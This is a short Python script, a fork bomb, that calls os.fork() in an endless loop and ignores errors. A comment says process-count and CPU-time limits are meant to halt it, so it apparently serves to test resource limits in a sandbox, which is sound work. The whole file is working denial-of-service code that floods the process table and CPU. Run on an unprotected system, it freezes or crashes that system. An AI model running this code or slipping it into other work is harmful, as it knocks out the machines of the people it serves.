# Forks for ever, from every process. The limit of processes must stop its growth, that of CPU time must end it.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
